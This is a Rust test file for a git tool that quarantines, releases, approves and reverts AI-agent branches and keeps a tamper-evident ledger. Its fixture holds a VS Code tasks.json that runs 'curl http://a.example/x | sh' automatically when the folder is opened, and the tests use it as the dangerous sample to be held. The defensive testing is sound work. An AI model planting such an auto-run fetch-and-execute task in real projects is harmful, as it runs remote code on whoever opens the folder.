//! The whole main job on real git, by the commands a person types: hold, release, revert, approve, and the ledger that
//! proves it. The working tree is never touched.

use serde_json::Value;

use crate::program::Program;
use crate::world::{World, snapshot};

const TASKS: &str =
    r#"{"version":"2.0.0","tasks":[{"label":"x","command":"curl http://a.example/x | sh","runOptions":{"runOn":"folderOpen"}}]}"#;

/// A repository with an uncommitted change, a dangerous agent branch and a reviewer.
fn world() -> (World, Program) {
    let mut world = World::new();
    world.agent_branch("claude/tasks", "Describe the build", &[(".vscode/tasks.json", TASKS)]);
    world.git(&["config", "user.name", "Reviewer"]);
    world.git(&["config", "user.email", "reviewer@example.com"]);
    world.write("unfinished.txt", "mine\n");
    world.write("README.md", "# example\n\nchanged, not committed\n");
    let program = Program::new(world.path(), world.beside("home"));
    (world, program)
}

/// Working tree, index and HEAD.
fn ground(world: &World) -> impl PartialEq + std::fmt::Debug + use<> {
    (snapshot(&world.path()), world.git(&["status", "--porcelain=v2"]), world.git(&["rev-parse", "--abbrev-ref", "HEAD"]))
}

fn refs(world: &World) -> String {
    world.git(&["for-each-ref", "--format=%(refname) %(objectname)"])
}

/// The case id a command printed.
fn case(out: &str) -> String {
    let line = out.lines().find_map(|line| line.trim().strip_prefix("case ")).unwrap();
    line.split(',').next().unwrap().to_owned()
}

#[test]
fn a_change_is_held_and_released_and_the_ledger_proves_it() {
    let (world, program) = world();
    let (ground_before, refs_before, head) = (ground(&world), refs(&world), world.id("claude/tasks"));

    let dry = program.ok(&["quarantine", "claude/tasks", "-m", "runs when opened", "--dry-run"]);
    assert!(dry.contains("ENFORCED  move claude/tasks to refs/quarantine/"), "{dry}");
    assert_eq!(refs(&world), refs_before, "a dry run does nothing");
    assert_eq!(program.ok(&["ledger", "list"]), "nothing was decided yet\n");

    let unasked = program.run(&["quarantine", "claude/tasks", "-m", "runs when opened"]);
    unasked.is_failure("nothing was done, because nobody can be asked here");
    assert_eq!(refs(&world), refs_before, "silence is no");

    let held = program.ok(&["quarantine", "claude/tasks", "-m", "runs when opened", "--yes"]);
    let case = case(&held);
    assert!(held.contains(&format!("undo: lazaret release {case}")), "{held}");
    assert_eq!(world.id(&format!("refs/quarantine/{case}/claude/tasks")), head);
    assert!(!world.try_git(&["rev-parse", "--verify", "-q", "refs/heads/claude/tasks"]).status.success());
    assert!(program.ok(&["list", "--filter", "state:quarantined"]).contains(&case));
    assert!(program.ok(&["ledger", "verify"]).starts_with("whole: 5 records, head "));
    assert!(program.ok(&["evidence", "verify", &case]).contains("whole"));
    let bundle = program.home.join("data/evidence").join(&case).join("change.bundle");
    world.git(&["bundle", "verify", "-q", bundle.to_str().unwrap()]);

    let again = program.ok(&["quarantine", "claude/tasks", "-m", "again", "--yes"]);
    assert!(again.contains("nothing to do"), "{again}");

    let released = program.ok(&["release", &case, "-m", "the task was taken out", "--yes"]);
    assert!(released.contains("ENFORCED"), "{released}");
    assert_eq!(world.id("refs/heads/claude/tasks"), head);
    assert!(!refs(&world).contains("refs/quarantine/"));
    assert!(program.ok(&["ledger", "verify"]).starts_with("whole: 9 records"));
    assert_eq!(program.ok(&["ledger", "export"]).lines().count(), 9);
    assert_eq!(ground(&world), ground_before, "working tree, index and HEAD are the person's");
}

#[test]
fn held_commits_do_not_come_back_where_the_hook_stands() {
    let (world, program) = world();
    assert_eq!(program.run(&["hook", "status"]).code, 1);
    program.ok(&["hook", "install"]);
    assert!(program.ok(&["hook", "status"]).contains("refs/heads/main"));
    let head = world.id("claude/tasks");
    let held = program.ok(&["quarantine", "claude/tasks", "-m", "runs when opened", "--yes"]);
    assert!(!held.contains("is only advice"), "{held}");
    world.git(&["stash", "-q", "-u"]);
    assert!(!world.try_git(&["merge", "-q", "--no-edit", &head]).status.success(), "the hook refuses the merge");
    world.try_git(&["merge", "--abort"]);
    assert!(!world.try_git(&["cherry-pick", &head]).status.success(), "and the cherry-pick");
}

#[test]
fn a_refused_verb_answers_with_one_and_does_nothing() {
    let (world, program) = world();
    let before = refs(&world);
    for args in [
        &["quarantine", "claude/tasks", "--yes"] as &[&str],
        &["approve", "claude/tasks", "--yes"],
        &["release", "Q-20260101-abcdef", "-m", "x", "--yes"],
        &["revert", "claude/tasks", "-m", "x", "--yes"],
    ] {
        let run = program.run(args);
        assert_eq!(run.code, 1, "{args:?}: {}{}", run.out, run.err);
        assert!(run.out.contains("refused: "), "{args:?}: {}", run.out);
    }
    assert_eq!(refs(&world), before);
    assert_eq!(program.ok(&["ledger", "list"]), "nothing was decided yet\n", "a refusal is no decision");
}

#[test]
fn an_approval_judges_every_hard_finding_and_merges_what_was_read() {
    let (world, program) = world();
    let report: Value = serde_json::from_str(&program.run(&["scan", "claude/tasks", "--format", "json"]).out).unwrap();
    let hard: Vec<String> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| matches!(finding["severity"].as_str(), Some("high" | "critical")))
        .map(|finding| finding["id"].as_str().unwrap().to_owned())
        .collect();
    assert!(!hard.is_empty());
    let mut args = vec!["approve".to_owned(), "claude/tasks".to_owned(), "--yes".to_owned()];
    args.extend(hard.iter().skip(1).flat_map(|id| ["--accept".to_owned(), format!("{id}=known and wanted")]));
    args.extend(["--dismiss".to_owned(), format!("{}=development-or-test", hard[0])]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();

    let wrong = program.run(&["approve", "claude/tasks", "--yes", "--dismiss", &format!("{}=because", hard[0])]);
    assert_eq!(wrong.code, 2);
    assert!(wrong.err.contains("development-or-test"), "the reasons are named: {}", wrong.err);
    program.fails(&["approve", "claude/tasks", "--yes", "--accept", "0123456789abcdef=fine"], "0123456789abcdef");

    let main = world.id("main");
    let recorded = program.ok(&args);
    assert!(recorded.starts_with("approve claude/tasks"), "{recorded}");
    assert_eq!(world.id("main"), main, "an approval alone moves nothing");
    assert!(program.ok(&["ledger", "verify"]).starts_with("whole: 3 records"));
}

#[test]
fn a_merged_change_is_reverted_on_a_branch_of_its_own() {
    let (mut world, program) = world();
    world.git(&["stash", "-q", "-u"]);
    world.git(&["merge", "-q", "--no-ff", "-m", "Merge claude/tasks", "claude/tasks"]);
    let merge = world.id("main");
    world.write("later.txt", "later\n");
    world.commit("Go on");
    let before = ground(&world);
    let out = program.ok(&["revert", &merge, "-m", "it runs when opened", "--yes"]);
    let branch = format!("revert/{}", case(&out));
    assert_eq!(world.git(&["show", &format!("{branch}:later.txt")]), "later");
    assert!(!world.try_git(&["cat-file", "-e", &format!("{branch}:.vscode/tasks.json")]).status.success(), "its effect is gone");
    assert!(world.try_git(&["merge-base", "--is-ancestor", "main", &branch]).status.success(), "history is not rewritten");
    assert_eq!(ground(&world), before);
    assert!(program.ok(&["ledger", "verify"]).starts_with("whole"));
}

#[test]
fn a_conflict_is_named_beforehand_and_nothing_is_touched() {
    let (mut world, program) = world();
    world.git(&["stash", "-q", "-u"]);
    world.git(&["merge", "-q", "--no-ff", "-m", "Merge claude/tasks", "claude/tasks"]);
    let merge = world.id("main");
    world.write(".vscode/tasks.json", "{}\n");
    world.commit("Take the task out by hand");
    let (before, refs_before) = (ground(&world), refs(&world));
    let run = program.run(&["revert", &merge, "-m", "again", "--yes"]);
    assert_eq!(run.code, 1, "{}{}", run.out, run.err);
    assert!(run.out.contains("conflict") && run.out.contains(".vscode/tasks.json"), "{}", run.out);
    assert_eq!((ground(&world), refs(&world)), (before, refs_before));
}

#[test]
fn a_ledger_somebody_changed_names_the_record() {
    let (_world, program) = world();
    program.ok(&["quarantine", "claude/tasks", "-m", "runs when opened", "--yes"]);
    let ledger = rusqlite::Connection::open(program.home.join("data/ledger.db")).unwrap();
    let triggers: Vec<String> = ledger
        .prepare("SELECT name FROM sqlite_master WHERE type = 'trigger'")
        .unwrap()
        .query_map([], |row| row.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert!(!triggers.is_empty());
    for trigger in triggers {
        ledger.execute_batch(&format!("DROP TRIGGER {trigger}")).unwrap();
    }
    ledger.execute("UPDATE records SET says = 'nothing happened' WHERE seq = 3", []).unwrap();
    drop(ledger);
    let run = program.run(&["ledger", "verify"]);
    assert_eq!(run.code, 1);
    assert!(run.out.starts_with("broken at record 3: "), "{}", run.out);
    assert_eq!(program.run(&["doctor"]).code, 1);
}

#[test]
fn a_kept_demo_takes_every_verb_and_keeps_it_to_itself() {
    let folder = tempfile::tempdir().unwrap();
    let program = Program::new(folder.path(), folder.path().join("home"));
    let listed = program.run(&["demo", "--dir", "kept"]);
    assert_eq!(listed.code, 0, "{}", listed.err);
    let held = program.ok(&["quarantine", "--repo", "kept", "#2", "-m", "a way in", "--yes"]);
    assert!(program.ok(&["list", "kept", "--filter", "state:quarantined"]).contains("demo#2"));
    program.ok(&["release", "--repo", "kept", &case(&held), "-m", "only a test", "--yes"]);
    let merged = program.ok(&["list", "kept", "--filter", "state:merged", "--format", "jsonl"]);
    let merged: Value = serde_json::from_str(merged.lines().next().unwrap()).unwrap();
    let number = merged["ref"].as_str().unwrap().trim_start_matches("demo").to_owned();
    let dry = program.run(&["revert", "--repo", "kept", &number, "-m", "x", "--dry-run"]);
    assert!(dry.code < 2, "{}{}", dry.out, dry.err);
    assert!(!program.home.join("data").exists(), "its ledger is its own");
    let own = Program::new(folder.path(), folder.path().join("kept/home"));
    assert!(own.ok(&["ledger", "verify"]).starts_with("whole: 9 records"));
    program.run(&["quarantine", "demo#2", "-m", "x", "--yes"]).is_failure("keep one with `lazaret demo --dir DIR`");
}
